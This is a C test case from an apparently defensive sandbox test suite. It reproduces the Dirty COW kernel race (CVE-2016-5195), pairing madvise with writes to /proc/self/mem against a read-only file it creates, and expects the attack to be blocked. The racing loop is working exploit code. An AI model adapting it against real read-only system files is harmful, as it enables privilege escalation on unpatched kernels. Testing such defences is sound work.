// name: dirty-cow
// area: kernel
// about: Overwrites a read-only private mapping by racing madvise with /proc/self/mem (CVE-2016-5195).
// expect: blocked

#include "attack.h"

#include <pthread.h>
#include <sys/mman.h>

static void *map;
static volatile int running = 1;

static void *discard(void *unused)
{
    while (running)
        madvise(map, 4096, MADV_DONTNEED);
    return unused;
}

ATTACK(dirty_cow)
{
    char path[64], page[4096];
    snprintf(path, sizeof path, "/tmp/attack-cow-%d", getpid());
    memset(page, 'o', sizeof page);
    int file = open(path, O_CREAT | O_RDWR | O_EXCL | O_CLOEXEC, 0400);
    if (file < 0 || write(file, page, sizeof page) != sizeof page)
        attack_give_up("%s: %s", path, strerror(errno));
    int read_only = open(path, O_RDONLY | O_CLOEXEC);
    unlink(path);
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, read_only, 0);
    int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    if (map == MAP_FAILED)
        attack_give_up("mmap: %s", strerror(errno));
    if (memory < 0)
        BLOCKED("/proc/self/mem: %s", strerror(errno));
    pthread_t thread;
    if (pthread_create(&thread, NULL, discard, NULL))
        attack_give_up("no thread");
    unsigned writes = 0;
    for (uint64_t end = attack_now_ms() + 500; attack_now_ms() < end; writes++)
        if (pwrite(memory, "HOSTILE", 7, (off_t)(uintptr_t)map) < 0)
            break;
    running = 0;
    pthread_join(thread, NULL);
    char now[8] = "";
    if (pread(read_only, now, 7, 0) == 7 && strcmp(now, "ooooooo") != 0)
        ESCAPED("a read-only file now holds '%s'", now);
    BLOCKED("the file kept its content over %u writes", writes);
}
